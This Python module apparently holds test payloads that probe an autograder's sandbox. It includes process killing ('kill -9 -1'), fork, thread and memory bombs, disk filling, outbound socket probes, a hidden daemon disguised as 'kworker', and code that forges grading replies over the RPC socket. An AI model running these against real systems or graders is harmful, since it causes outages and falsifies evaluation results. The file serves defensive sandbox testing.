"""Attack payloads against the process: exiting, killing, hanging, forking, exhausting memory, disk,
output and network, outliving the grade, and talking on the RPC socket directly.
"""

from __future__ import annotations

# ------------------------------------------------------------------ ending and killing

OS_EXIT = "import os\nos._exit(0)"
SYS_EXIT = "import sys\nsys.exit(0)"
EXCEPTIONS_AT_IMPORT = [
    "raise KeyboardInterrupt('stop grading')",
    "raise SystemExit(3)",
    r'''
class Hostile(BaseException):
    def __str__(self):
        raise RuntimeError("no message for you")
raise Hostile()
''',
    "raise ValueError('m' * 10_000_000)",
    "raise GeneratorExit()",
]

KILL_PARENT = r'''
import os, signal
for target, sig in ((os.getppid(), signal.SIGKILL), (0, signal.SIGKILL), (-1, signal.SIGKILL),
                    (1, signal.SIGKILL), (os.getppid(), signal.SIGSTOP), (0, signal.SIGSTOP),
                    (-1, signal.SIGTERM)):
    try:
        os.kill(target, sig)
        print("sent", target, sig)
    except Exception as exc:
        print("kill", target, type(exc).__name__)
for group in (0, os.getpgrp()):
    try:
        os.killpg(group, signal.SIGKILL)
    except Exception as exc:
        print("killpg", type(exc).__name__)
os.system("kill -9 -1 2>/dev/null; kill -STOP -1 2>/dev/null")
'''

IGNORE_SIGNALS = r'''
import signal
for sig in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGUSR1):
    signal.signal(sig, signal.SIG_IGN)

def slow(n):
    while True:
        try:
            pass
        except BaseException:
            pass
'''

SWALLOW_ALARM = r'''
import signal

def slow(n):
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, lambda *args: None)
    total = 0
    while True:
        try:
            total += 1
        except BaseException:
            continue
'''

FORK_STORM = r'''
import os

def slow(n):
    children = 0
    while True:
        try:
            if os.fork() == 0:
                while True:
                    pass
            children += 1
        except OSError:
            break
    while True:
        pass
'''

FORK_STORM_IMPORT = r'''
import os, time
made = 0
for _ in range(500):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(3600)
        os._exit(0)
    made += 1
print("forked", made)
'''

THREAD_STORM = r'''
import threading, time
made = 0
for _ in range(1000):
    try:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
        made += 1
    except RuntimeError:
        break
print("threads", made)
'''

MEMORY_BOMB_ITEM = r'''
def slow(n):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
'''

MEMORY_BOMB_IMPORT = r'''
import torch
try:
    hoard = [bytearray(64 << 20) for _ in range(1000)]
except MemoryError:
    print("memory limit reached")
hoard = None
try:
    torch.empty(1 << 40)
except Exception as exc:
    print("torch:", type(exc).__name__)
'''

SEGFAULT_ITEM = r'''
def slow(n):
    import ctypes
    return ctypes.string_at(0)
'''

DISK_FILL = r'''
import os
written = {}
for folder in ("/tmp/work", "/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/var/lock", "/", "/var",
               "/run", "/home", "/srv", "/opt", "@@COURSE@@", "@@REPO@@", "@@REPO@@/build"):
    total = 0
    for index in range(20):
        try:
            with open(os.path.join(folder, f"sec-attack-fill-{index}"), "wb") as handle:
                for _ in range(16):
                    handle.write(b"\0" * (1 << 20))
                    total += 1 << 20
        except OSError as exc:
            written[folder] = (total >> 20, exc.errno)
            break
    else:
        written[folder] = (total >> 20, 0)
print("MB written before the first error:", written)
'''

FLOOD = r'''
import sys, threading, time
print("x" * 20_000_000)
sys.stderr.write("y" * 20_000_000)

def spam():
    while True:
        try:
            sys.stdout.write("z" * 100_000)
        except Exception:
            time.sleep(0.01)

threading.Thread(target=spam, daemon=True).start()
_add = add

def add(a, b):
    print("w" * 5_000_000)
    return _add(a, b)
'''

NETWORK = r'''
import socket
results = {}
for family, address in ((socket.AF_INET, ("127.0.0.1", @@PORT@@)), (socket.AF_INET6, ("::1", @@PORT@@)),
                        (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("10.0.2.2", 80)),
                        (socket.AF_INET, ("8.8.8.8", 443))):
    try:
        conn = socket.socket(family, socket.SOCK_STREAM)
        conn.settimeout(0.5)
        conn.connect(address)
        conn.sendall(b"HELLO FROM THE SANDBOX")
        results[str(address)] = "CONNECTED"
    except Exception as exc:
        results[str(address)] = type(exc).__name__
try:
    results["dns"] = str(socket.getaddrinfo("example.com", 80))[:80]
except Exception as exc:
    results["dns"] = type(exc).__name__
try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b"x", ("8.8.8.8", 53))
    results["udp"] = "SENT"
except Exception as exc:
    results["udp"] = type(exc).__name__
try:
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.settimeout(0.5)
    unix.connect("\0@@ABSTRACT@@")
    unix.sendall(b"HELLO")
    results["abstract"] = "CONNECTED"
except Exception as exc:
    results["abstract"] = type(exc).__name__
import os
results["interfaces"] = os.listdir("/sys/class/net")
print(results)
'''


# ------------------------------------------------------------------ outliving the grade

BACKGROUND = r'''
import os, signal, threading, time

def _loiter(tag):
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    count = 0
    while True:
        count += 1
        for path in ("/tmp/work/heartbeat", "@@OUT@@/zzz-" + tag + ".json", "@@PWNED@@/" + tag,
                     "/run/lock/sec-attack-" + tag):
            try:
                with open(path, "w") as handle:
                    handle.write(str(count))
            except Exception:
                pass
        time.sleep(0.2)

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            import ctypes
            ctypes.CDLL(None).prctl(15, b"kworker/0:1", 0, 0, 0)
        except Exception:
            pass
        _loiter("daemon")
    os._exit(0)
os.system("nohup sleep 3600 >/dev/null 2>&1 &")
os.system("setsid sleep 3601 >/dev/null 2>&1 < /dev/null &")
threading.Thread(target=_loiter, args=("thread",), daemon=True).start()
'''

RPC_HIJACK = r'''
import os, socket, stat, struct

def _rpc_socket():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return socket.socket(fileno=os.dup(fd))
        except OSError:
            pass

from autograder.core import codec

def guess_hidden():
    sock = _rpc_socket()
    payload = codec.encode(("ok", "forged"))
    sock.sendall(struct.pack("<Q", len(payload)) + payload)
    return "second reply"

def guess_reference():
    sock = _rpc_socket()
    sock.sendall(struct.pack("<Q", 1 << 62) + b"x" * 64)
    return "never read"

def slow(n):
    sock = _rpc_socket()
    sock.sendall(struct.pack("<Q", 9) + b"\xff" * 9)
    return 5
'''

HOSTILE_EXCEPTIONS = r'''
class Meta(type):
    @property
    def __name__(cls):
        raise RuntimeError("no name")

class Nameless(Exception, metaclass=Meta):
    pass

class Loud(Exception):
    def __str__(self):
        return "L" * 50_000_000

class Recursive(Exception):
    def __str__(self):
        return str(self)

def softmax(x):
    raise Loud()

def summary(values):
    raise Recursive()

class Counter:
    def __init__(self, start=0):
        raise Nameless()

def slow(n):
    raise Loud()
'''

STD_STREAMS = r'''
import os, sys
try:
    input("password? ")
except EOFError:
    print("stdin is empty")
sys.stdout = None
sys.stderr = None
for fd in (0, 1, 2):
    os.close(fd)
'''

FORGED_CELL_REPLY = r'''
import os, socket, stat, struct
from autograder.core import codec
for fd in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            forged = codec.encode(("ok", 5, 1))
            socket.socket(fileno=os.dup(fd)).sendall(struct.pack("<Q", len(forged)) + forged)
    except OSError:
        pass
'''

CLOSE_RPC = r'''
import os
os.closerange(3, 4096)
'''



# ------------------------------------------------------------------ looking at the cage

INSPECT = r'''
import json, os, resource
names = ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_CORE")
files = []
try:
    for _ in range(1000):
        files.append(open("/dev/null"))
except OSError:
    pass
opened = len(files)
for handle in files:
    handle.close()
tmp = os.statvfs("/tmp/work")
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
print("CAGE " + json.dumps({
    "limits": {name: resource.getrlimit(getattr(resource, name)) for name in names},
    "tmp_mb": tmp.f_blocks * tmp.f_frsize >> 20, "uid": os.getuid(), "groups": os.getgroups(),
    "env": sorted(os.environ), "oom": open("/proc/self/oom_score_adj").read().strip(),
    "no_new_privs": status["NoNewPrivs"].strip(), "cap_eff": status["CapEff"].strip(), "opened": opened,
    "cwd": os.getcwd(), "pid": os.getpid(),
}))
'''
